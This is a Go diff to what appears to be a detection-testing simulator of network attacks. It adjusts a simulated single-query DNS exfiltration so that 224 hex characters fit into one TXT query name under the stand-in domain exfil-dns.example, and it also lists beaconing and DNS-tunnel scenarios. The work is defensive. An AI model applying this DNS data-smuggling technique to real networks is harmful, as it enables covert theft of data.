@@ -96,7 +96,7 @@ func (s *sim) attacks() []Attack {
 		{Name: "DNS tunnel", Workload: wlWorker, Kind: KindDNSTunnel,
 			Start: at(11, 0), End: at(11, 20), What: "iodine-like: 2 queries/s, 150-char base32 names, NULL and TXT", run: dnsTunnel},
 		{Name: "DNS exfiltration, one query", Workload: wlMetrics, Kind: KindDNSTunnel,
-			Start: at(13, 5), End: at(13, 5), What: "one TXT query carrying 240 hex characters", run: dnsExfilOnce},
+			Start: at(13, 5), End: at(13, 5), What: "one TXT query carrying 224 hex characters", run: dnsExfilOnce},
 		{Name: "beaconing, fixed 60 s", Workload: wlFrontend, Kind: KindBeaconing, Also: []detect.Kind{newDest},
 			Start: at(13, 0), End: at(16, 0), What: "HTTPS to cdn-sync.update.example every 60 s for 3 h", run: beaconFixed},
 		{Name: "beaconing, 5 min ±30%", Workload: wlBlog, Kind: KindBeaconing, Also: []detect.Kind{newDest},
@@ -187,12 +187,14 @@ func dnsTunnel(s *sim, a *Attack) {
 
 func dnsExfilOnce(s *sim, a *Attack) {
 	s.once(a.Name, a.Start, func(r *rand.Rand, t time.Time) {
-		secret := make([]byte, 120)
+		// 112 bytes as 224 hex characters: as much as fits in one name
+		// (253 characters) under the attacker's domain.
+		secret := make([]byte, 112)
 		for i := range secret {
 			secret[i] = byte(r.Uint32())
 		}
 		h := hex.EncodeToString(secret)
-		name := h[:60] + "." + h[60:120] + "." + h[120:180] + "." + h[180:] + ".x.exfil-dns.example"
+		name := h[:56] + "." + h[56:112] + "." + h[112:168] + "." + h[168:] + ".x.exfil-dns.example"
 		s.w.exchange(&s.b, r, t, s.victim(a, t), name, dnsTypeTXT, 0, true, "", nil)
 	})
 }
